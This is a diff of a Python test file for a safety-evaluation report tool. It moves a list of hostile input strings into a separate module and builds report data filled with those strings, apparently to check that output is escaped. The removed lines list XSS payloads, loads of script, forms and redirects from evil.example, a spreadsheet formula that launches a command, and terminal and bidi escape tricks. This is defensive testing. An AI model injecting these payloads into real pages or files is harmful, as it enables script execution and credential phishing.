@@ -6,49 +6,14 @@ from collections.abc import Mapping
 from random import Random
 
 from polysafe.report import BlockDecision, ChangedAnswer, ReportData
-from polysafe.stats import Outcomes, Row, compare_outcomes, rate_outcomes
+from polysafe.report.data import CorrectedRate, GapChange, JudgeError, LayerUnits, Touched
+from polysafe.stats import Gap, Outcomes, RateRow, Row, compare_outcomes, rate_outcomes
+from tests.attacks.answers import ANSWERS
 
 TIERS = {"en": "pivot", "qaa": "mid", "qac": "low", "qad": "low", "qae": "low"}
 LOW = ("qac", "qad", "qae")
 
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "</script><script src=https://evil.example/x.js></script>",
-    "</details></dd></main><h1>owned</h1>",
-    "<img src=x onerror=alert(1)>",
-    '" onmouseover="alert(1)" x="',
-    "' autofocus onfocus='alert(1)",
-    "<svg/onload=alert(1)>",
-    "<style>*{display:none}</style>",
-    "</style><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "javascript:alert(1)",
-    "<iframe src='data:text/html,<script>alert(1)</script>'>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<base href='https://evil.example/'>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<form action=https://evil.example><input name=a>",
-    "<!-- unclosed",
-    "--><b>after a comment",
-    "<![CDATA[ x ]]>",
-    "<!DOCTYPE html><plaintext>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;",
-    "{{ 7 * 7 }}{% for x in data %}{% endfor %}{# #}",
-    "${7*7} $\\frac{a}{$ _^{",
-    "line\u2028separator\u2029paragraph",
-    "\u202egnp.exe\u202c \u2066isolate",
-    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b2J",
-    "\x00nul \x08backspace \r return \ufeffmark \ufffe",
-    "tag \U000e0041\U000e0042 hidden",
-    "lone \ud800 surrogate",
-    "[red]markup[/red] ![image](https://evil.example/a.png)",
-    "=cmd|'/c calc'!A1",
-    "A" * 1_000_000,
-    "<" * 100_000,
-    "سلام <b>עולם</b> নমস্কার",
-]
+HOSTILE = [case.text for case in ANSWERS.values()]
 
 
 def outcomes(rates: Mapping[str, Mapping[str, float]], seed: int, n: int = 48) -> Outcomes:
@@ -128,16 +93,29 @@ def hostile(text: str) -> ReportData:
     attack = [Row(text, code, metric, 1.0, 0.5, 4, 0.5, 1.0, 0.2, 0.8, 0.5, 0.5) for code in (text, "qac")
               for metric in ("unsafe", "refused", text, f"capability.{text}")]  # fmt: skip
     block = BlockDecision(text, 0, text, text, 0.5, 0.1, {text: 1.0}, borderline=True)
-    audited = outcomes(flat((text, "en"), unsafe=0.25, refused=0.7), 3)
+    rates = tuple(rate_outcomes(text, outcomes(flat((text, "en"), unsafe=0.25, refused=0.7), 3)))
+    gaps = [Gap(text, code, "en", "unsafe", 0.9, 0.1, 40, 40, 0.6, 0.9, 0.01, 0.01, 1, 2) for code in (text, "qac")]
+    units = (LayerUnits(0, text, (1,), 4, (0.1, 0.9, 0.2, 0.0)), LayerUnits(1, None, (0, 2), 4))
+    overlap = {text: {"qac": 0.5}, "qac": {text: 0.5}}
     return ReportData(
         title=text,
         rows=tuple(attack),
         toy=False,
         tiers={text: text, "qac": "low"},
-        audits=tuple(rate_outcomes(text, audited)),
+        audits=rates,
         decisions={text: {text: (block, BlockDecision(text, None, None, text, 0.5))}},
         changes=(ChangedAnswer(*[text] * 9), change(1, text)),
         languages={text: text, "qac": text},
+        gaps=tuple(GapChange(text, gap, gap) for gap in gaps),
+        audit_gaps=tuple(gaps),
+        categories={text: tuple(row for row in attack if row.metric == "unsafe"), "other": (attack[0],)},
+        audit_categories={text: rates},
+        touched=tuple(
+            Touched(text, text, text, 10, 1, 2, 3, 4, unit, units, overlap) for unit in ("heads", "neurons", text)
+        ),
+        truncation=tuple(RateRow(model, text, "truncated", 0.5, 4, 0.1, 0.9) for model in (text, "base")),
+        judge_errors=(JudgeError(text, text, 0.9, 0.8, 1.0, 20, 0.8, 0.7, 0.9, 20),),
+        corrected=(CorrectedRate(text, text, 0.5, 0.4, 0.3, 0.6, 4),),
         meta={text: {text: text}},
         limits=(text,),
     )
